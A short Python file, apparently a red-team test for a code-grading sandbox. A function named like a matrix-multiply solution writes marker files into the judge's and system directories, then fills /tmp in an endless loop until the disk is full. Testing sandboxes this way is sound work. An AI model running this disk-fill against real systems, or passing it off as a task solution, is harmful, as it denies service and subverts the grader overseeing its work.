"""Disk fill: writes until the disk is full, everywhere it can. Expected: runtime_error."""
import os

MARK = "tj-redteam-diskfill"


def matmul_with_multi_head(input, weight, num_heads=1):
    for where in (os.getcwd(), "/", "/job", "/judge", os.path.expanduser("~"), "/dev/shm"):
        try:
            with open(os.path.join(where, MARK), "wb") as f:
                f.write(b"x" * 4096)
        except OSError:
            pass
    with open(f"/tmp/{MARK}", "wb") as f:
        chunk = b"\0" * (1 << 20)
        while True:
            f.write(chunk)
            f.flush()
